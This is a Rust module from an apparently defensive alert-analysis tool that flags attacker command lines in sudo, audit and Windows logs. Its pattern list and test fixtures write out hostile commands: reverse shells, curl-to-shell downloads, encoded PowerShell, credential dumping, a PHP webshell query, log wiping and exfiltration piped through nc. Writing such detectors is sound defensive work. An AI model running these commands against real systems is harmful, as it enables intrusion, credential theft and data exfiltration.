//! Commands that hardly anybody but an attacker runs, told from the command lines that sudo, the audit log and Windows report.
//!
//! The rules that report commands say the same of each: a flood of harmless ones and a shell that is handed to another machine are one rule at
//! one level. What tells them apart is in the line. The list is short and strict: what administrators type too (a download, an archive,
//! a look at a log) is not in it, however often attackers type it.

use alert::incident::Finding;
use alert::{Alert, Class, Untrusted};

use crate::template;

mod line;
mod rights;
mod shell;

/// How sure one sign is, 1 to 100. Not so sure that an analyst could not call it a test of the defences, or an administrator's odd habit.
const STRENGTH: u8 = 45;

/// Longest piece of a command that is shown, in bytes.
const FRAGMENT_BYTES_MAX: usize = 160;

/// Groups of rules which say that somebody was not let do what he asked for: the command did not run.
const REFUSING_GROUPS: &[&str] = &[
    "authentication_failed",
    "authentication_failures",
    "invalid_login",
    "login_denied",
    "access_denied",
];

/// Words that must all be in a command line, in lower case, and what they say together. A word does not begin inside another word.
const SIGNS: &[(&[&str], &str)] = &[
    (&["/dev/tcp/"], HANDS_A_SHELL),
    (&["/dev/udp/"], HANDS_A_SHELL),
    (&["socket", "connect", "dup2"], HANDS_A_SHELL),
    (&["socket", "connect", "pty.spawn"], HANDS_A_SHELL),
    (&["tcpclient", "getstream", "iex"], HANDS_A_SHELL),
    (&["socat ", "exec:"], HANDS_A_SHELL),
    (&["mkfifo ", "nc "], HANDS_A_SHELL),
    (&["certutil", "-urlcache", "http"], RUNS_FROM_ELSEWHERE),
    (&["mshta", "http"], RUNS_FROM_ELSEWHERE),
    (&["regsvr32", "/i:http"], RUNS_FROM_ELSEWHERE),
    (&["powershell", "hidden", " -enc"], HIDES_WHAT_RUNS),
    (&["powershell", "-nop", " -enc"], HIDES_WHAT_RUNS),
    (&["powershell", "hidden", " -e "], HIDES_WHAT_RUNS),
    (&["powershell", "hidden", " -ec "], HIDES_WHAT_RUNS),
    (&["into outfile", "<?"], WRITES_A_PROGRAM),
    (&["into dumpfile", "<?"], WRITES_A_PROGRAM),
    (&["xp_cmdshell"], LEAVES_THE_DATABASE),
    (&["copy ", " from program "], LEAVES_THE_DATABASE),
    (&["powershell", "hidden", "frombase64string"], HIDES_WHAT_RUNS),
    (&["comsvcs", "minidump"], TAKES_PASSWORDS),
    (&["procdump", "lsass"], TAKES_PASSWORDS),
    (&["sekurlsa"], TAKES_PASSWORDS),
    (&["lsadump"], TAKES_PASSWORDS),
    (&["ntdsutil", "ifm"], TAKES_PASSWORDS),
    (&["reg", " save ", "hklm\\sam"], TAKES_PASSWORDS),
    (&["reg", " save ", "hklm\\security"], TAKES_PASSWORDS),
    (&["vssadmin", "delete", "shadows"], REMOVES_WAYS_BACK),
    (&["wmic", "shadowcopy", "delete"], REMOVES_WAYS_BACK),
    (&["bcdedit", "recoveryenabled", "no"], REMOVES_WAYS_BACK),
    (&["wevtutil", " cl "], REMOVES_TRACES),
    (&["clear-eventlog"], REMOVES_TRACES),
    (&["auditctl", " -e 0"], REMOVES_TRACES),
    (&["/dev/null", ".bash_history", "ln "], REMOVES_TRACES),
    (&["unset ", "histfile"], REMOVES_TRACES),
    (&["histfile=/dev/null"], REMOVES_TRACES),
    (&["shred ", "/var/log/"], REMOVES_TRACES),
    (&["tee ", "root/.ssh/authorized_keys"], LETS_A_KEY_IN),
    (&[">>", "root/.ssh/authorized_keys"], LETS_A_KEY_IN),
    (&["set-mppreference", "-disable", "true"], REMOVES_TRACES),
];

/// How PowerShell fetches text, and how it runs one.
const FETCHES: &[&str] =
    &["downloadstring", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"];
const RUNS: &[&str] = &["iex", "invoke-expression"];

const HANDS_A_SHELL: &str = "the command hands a shell to another machine";
const RUNS_FROM_ELSEWHERE: &str = "the command runs what it fetches from elsewhere";
const HIDES_WHAT_RUNS: &str = "the command hides what it runs";
const TAKES_PASSWORDS: &str = "the command takes stored passwords";
const REMOVES_WAYS_BACK: &str = "the command removes the ways back to saved data";
const WRITES_A_PROGRAM: &str = "the query writes a program into a file";
const SENDS_AWAY: &str = "the command packs data and sends it to another machine";
const LETS_A_KEY_IN: &str = "the command lets another key in as root";
const LEAVES_THE_DATABASE: &str = "the query runs a program outside the database";
const REMOVES_TRACES: &str = "the command removes traces or switches off a defence";

/// What ends a service.
const STOPS: &[&str] = &["stop", "disable", "mask", "kill"];

/// Services that watch a machine and report elsewhere.
const WATCHERS: &[&str] = &[
    "wazuh-agent",
    "ossec",
    "auditd",
    "osqueryd",
    "falcon-sensor",
    "sysmon",
    "falco",
    "filebeat",
    "auditbeat",
    "elastic-agent",
    "mdatp",
    "rsyslog",
];

/// Where Linux keeps passwords.
const PASSWORDS: &str = "/etc/shadow";

/// Programs that look at a file from outside only. Checks of how a machine is set up do so every day.
const ONLOOKERS: &[&str] = &["stat", "ls", "test", "[", "getfacl", "lsattr", "namei"];

/// Looks at the command that an alert reports, if it reports one that ran.
pub(super) fn telling(alert: &Alert, class: Class) -> Option<Finding> {
    // Elsewhere a command stands in a text about something else: a request, a mail.
    if class.is_web_exploit() || alert.first_field(&["data.url", "data.http.url"]).is_some() {
        return None;
    }
    if was_refused(alert) {
        return None;
    }
    line::all(alert).iter().find_map(|line| {
        let (at, reason) = sign(line)?;
        Some(finding(line.get(at..).unwrap_or(line), reason))
    })
}

/// Tells whether somebody was not let do what he asked for.
pub(super) fn was_refused(alert: &Alert) -> bool {
    alert.rule.groups.iter().any(|group| REFUSING_GROUPS.contains(&group.trim()))
}

/// Says what is telling about a command that ran, and shows the beginning of what tells it.
pub(super) fn finding(telling: &str, reason: &str) -> Finding {
    Finding {
        class: Class::CommandExecution,
        strength: STRENGTH,
        parameter: None,
        fragment: Untrusted::new(template::head(telling, FRAGMENT_BYTES_MAX)),
        reason: reason.to_owned(),
    }
}

/// Finds a sign in a command line, and where it begins.
fn sign(line: &str) -> Option<(usize, &'static str)> {
    let by_words = SIGNS.iter().find_map(|(words, reason)| {
        let all = words.iter().all(|word| place(line, word).is_some());
        words.first().filter(|_| all).and_then(|word| Some((place(line, word)?, *reason)))
    });
    by_words
        .or_else(|| shell::netcat(line))
        .or_else(|| shell::unread(line))
        .or_else(|| shell::sent_away(line))
        .or_else(|| Some((stopped_defence(line)?, REMOVES_TRACES)))
        .or_else(|| rights::given_away(line))
        .or_else(|| fetched(line))
        .or_else(|| Some((passwords(line)?, TAKES_PASSWORDS)))
}

/// Finds where a service that watches the machine is stopped: an upgrade restarts it.
fn stopped_defence(line: &str) -> Option<usize> {
    ["systemctl ", "service "].iter().find_map(|program| {
        let at = place(line, program)?;
        let own = template::head(line.get(at..)?, FRAGMENT_BYTES_MAX);
        let (mut is_stopped, mut is_watcher) = (false, false);
        for word in shell::own_words(own) {
            is_stopped |= STOPS.contains(&word);
            is_watcher |= WATCHERS.contains(&word.strip_suffix(".service").unwrap_or(word));
        }
        (is_stopped && is_watcher).then_some(at)
    })
}

/// Finds where PowerShell runs what it fetches. Both are whole words: programs have names that begin with them.
fn fetched(line: &str) -> Option<(usize, &'static str)> {
    let at = FETCHES.iter().find_map(|word| whole_place(line, word))?;
    RUNS.iter().any(|word| whole_place(line, word).is_some()).then_some((at, RUNS_FROM_ELSEWHERE))
}

/// Finds where the file of passwords, or the copy that is kept of it, is named by a program that may open it.
fn passwords(line: &str) -> Option<usize> {
    line.match_indices(PASSWORDS).map(|(at, _)| at).find(|at| {
        let rest = line.get(at + PASSWORDS.len()..).unwrap_or_default();
        let after = rest.strip_prefix('-').unwrap_or(rest).chars().next();
        // `/etc/shadowsocks` is something else.
        if after.is_some_and(|after| after.is_ascii_alphanumeric() || after == '_') {
            return false;
        }
        let before = line.get(..*at).unwrap_or_default();
        let part = before.rsplit(['|', ';', '&', '(', '`', '<', '>']).next().unwrap_or_default();
        !ONLOOKERS.contains(&shell::program(part, true))
    })
}

/// Finds a word where it is not the end of another.
fn place(line: &str, word: &str) -> Option<usize> {
    line.match_indices(word).map(|(at, _)| at).find(|at| begins_word(line, *at))
}

/// Finds a word where it is neither the end nor the beginning of another.
fn whole_place(line: &str, word: &str) -> Option<usize> {
    let ends = |at: usize| {
        let after = line.get(at + word.len()..).and_then(|after| after.chars().next());
        !after.is_some_and(|after| after.is_ascii_alphanumeric())
    };
    line.match_indices(word).map(|(at, _)| at).find(|at| begins_word(line, *at) && ends(*at))
}

/// Tells whether a word begins at a place, rather than goes on. What begins with a sign begins anywhere.
fn begins_word(line: &str, at: usize) -> bool {
    let begins = line
        .get(at..)
        .is_some_and(|text| text.starts_with(|first: char| first.is_ascii_alphanumeric()));
    let before = line.get(..at).and_then(|before| before.chars().next_back());
    !(begins && before.is_some_and(|before| before.is_ascii_alphanumeric()))
}

#[cfg(test)]
mod tests {
    use alert::{Alert, Class, Limits};
    use serde_json::{Value, json};

    use crate::observe::observe;

    fn sudo(command: &str) -> Value {
        json!({
            "rule": {"id": "5402", "level": 3, "description": "run as root", "groups": ["syslog", "sudo"]},
            "agent": {"id": "1", "name": "a"}, "decoder": {"name": "sudo"},
            "data": {"srcuser": "bob", "dstuser": "root", "command": command},
        })
    }

    fn audited(audit: Value) -> Value {
        json!({
            "rule": {"id": "80792", "level": 3, "description": "a command", "groups": ["audit", "audit_command"]},
            "agent": {"id": "1", "name": "a"}, "data": {"audit": audit},
        })
    }

    /// Gives the behaviour of an alert, and why its command is telling.
    fn told(alert: &Value) -> (String, Option<String>) {
        let alert = Alert::parse(alert.to_string().as_bytes(), &Limits::default());
        let seen = observe(&alert.expect("an alert"));
        (seen.behaviour, seen.finding.map(|finding| finding.reason))
    }

    #[test]
    fn commands_of_attackers_are_told_from_those_of_every_day() {
        for command in [
            "/usr/bin/cat /etc/shadow",
            "/usr/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/9 0>&1'",
            "/usr/bin/python3 -c import socket,os;s=socket.socket();s.connect(('h',9));os.dup2(s.fileno(),0)",
            "/bin/sh -c curl -s http://198.51.100.7/a | sh",
            "/bin/sh -c curl -s http://198.51.100.7/a | bash",
            "sh -c 'wget -qO- http://198.51.100.7/a|sudo -E /bin/bash -'",
            "sh -c 'echo aWQ= | base64 -d |bash'",
            "sh -c 'stat /etc/shadow; cat /etc/shadow'",
            "cat /etc/shadow-",
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
            "powershell -c iwr -useb http://198.51.100.7/a | IEX",
            "bash -c 'bash <(curl -s http://198.51.100.7/a)'",
            "sudo -u bob nc 198.51.100.7 9 -e /bin/sh",
            "/usr/bin/chmod u+s /bin/bash",
            "/usr/sbin/useradd -o -u 0 -g 0 toor",
            "ln -sf /dev/null ~/.bash_history",
            "bash -c 'unset HISTFILE; id'",
            "/usr/bin/systemctl stop wazuh-agent",
            "systemctl disable --now auditd.service",
            "/usr/sbin/service wazuh-agent stop",
            "cd /; /usr/bin/tee -a root/.ssh/authorized_keys",
            "/bin/sh -c tar czf - /srv/customers | nc 193.5.6.7 9001",
            "mysqldump --all-databases | gzip | ncat 198.51.100.7 443",
            "/usr/bin/shred -u /var/log/auth.log",
            "powershell.exe -w hidden -e SQBFAFgA",
            "exec_create: sh -c echo aWQ= | base64 -d | sh",
            "select '<?php system($_GET[1]);' into outfile '/var/www/x.php'",
            "EXEC master..xp_cmdshell 'whoami'",
            "COPY t FROM PROGRAM 'id'",
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full",
        ] {
            let (behaviour, reason) = told(&sudo(command));
            let reason = reason.unwrap_or_else(|| panic!("{command}"));
            assert_eq!(behaviour, format!("5402\n{reason}"), "{command}");
        }
        for command in [
            "/usr/bin/cat /etc/hosts",
            "/usr/bin/curl -sO https://example.org/a.tar.gz",
            "/usr/bin/tar czf /srv/backup.tgz /etc",
            "powershell.exe -ExecutionPolicy Bypass -File C:\\install.ps1",
            "/usr/bin/rsync -e ssh a b",
            "/bin/sh -c curl -s https://example.org/a | sha256sum",
            "/bin/sh -c curl -sf https://example.org/health || sh /opt/restart.sh",
            "/usr/bin/stat -c %a /etc/shadow",
            "sudo -u root stat /etc/shadow",
            "powershell -c iwr https://example.org/a.zip -outfile a.zip; iexplore.exe a",
            "/bin/sh -c 'ls -l /etc/shadow /etc/shadow-'",
            "/usr/bin/cat /etc/shadowsocks-libev/config.json",
            "/usr/bin/chmod u+s /usr/bin/ping",
            "/usr/sbin/useradd -m -u 1001 carol",
            "/usr/bin/tail -n 50 /var/log/auth.log",
            "/usr/bin/rm /var/log/nginx/access.log.9.gz",
            "/usr/bin/systemctl restart wazuh-agent",
            "/usr/bin/systemctl stop nginx; systemctl status auditd",
            "/usr/bin/systemctl stop auditd-report.timer-x nginx && true",
            "/usr/bin/tee -a /home/bob/.ssh/authorized_keys",
            "/bin/sh -c echo ruok | nc 127.0.0.1 2181",
            "/bin/sh -c mysqldump shop | gzip > /srv/shop.gz",
            "/bin/sh -c tar czf /srv/a.tgz /etc; nc -z 127.0.0.1 80",
        ] {
            assert_eq!(told(&sudo(command)), ("5402".to_owned(), None), "{command}");
        }
    }

    #[test]
    fn padding_hides_no_command() {
        let shell = "bash -i >& /dev/tcp/198.51.100.7/9 0>&1";
        assert!(told(&sudo(&format!("bash -c '{}{shell}'", " ".repeat(5000)))).1.is_some());
        assert!(told(&sudo(&format!("bash -c '# {} \n{shell}'", "x".repeat(9000)))).1.is_some());
        let mut words = vec!["true"; 30];
        words.push("/dev/tcp/198.51.100.7/9");
        let named = words.iter().enumerate().map(|(at, word)| (format!("a{at}"), json!(word)));
        let arguments: serde_json::Map<String, Value> = named.collect();
        assert!(told(&audited(json!({"execve": arguments}))).1.is_some());
    }

    #[test]
    fn what_the_kernel_wrote_as_digits_is_found_beside_what_says_nothing() {
        let digits =
            |text: &str| text.bytes().map(|byte| format!("{byte:02X}")).collect::<String>();
        let shell = digits("bash -i >& /dev/tcp/198.51.100.7/9 0>&1");
        let arguments = json!({"a0": "bash", "a1": "-c", "a2": shell});
        assert!(told(&audited(json!({"execve": arguments}))).1.is_some());
        let title = digits("cat\0/etc/shadow");
        assert!(told(&audited(json!({"proctitle": title}))).1.is_some());
        // The first text says nothing, the second does.
        assert!(told(&audited(json!({"proctitle": "bash", "execve": arguments}))).1.is_some());
        let harmless = json!({"a0": "echo", "a1": digits("two words")});
        assert_eq!(told(&audited(json!({"execve": harmless}))).1, None);
    }

    #[test]
    fn a_command_that_was_refused_did_not_run() {
        let mut refused = sudo("/usr/bin/cat /etc/shadow");
        refused["rule"]["groups"] = json!(["syslog", "sudo", "authentication_failed"]);
        let alert = Alert::parse(refused.to_string().as_bytes(), &Limits::default());
        let seen = observe(&alert.expect("an alert"));
        assert_eq!((seen.class, seen.finding), (Class::BruteForce, None));
    }

    #[test]
    fn what_the_audit_log_has_in_pieces_is_one_command_and_a_request_is_none() {
        // `wget http://h/x |sh`
        let digits = "7767657420687474703A2F2F682F78207C7368";
        let fetched = json!({"a0": "sh", "a1": "-c", "a2": digits});
        assert!(told(&audited(json!({"exe": "/usr/bin/bash", "execve": fetched}))).1.is_some());
        let request = json!({
            "rule": {"id": "31101", "level": 5, "description": "x", "groups": ["web"]},
            "agent": {"id": "1", "name": "a"},
            "data": {"srcip": "192.0.2.1", "url": "/", "id": "404", "command": "cat /etc/shadow"},
        });
        assert_eq!(told(&request).1, None);
    }
}
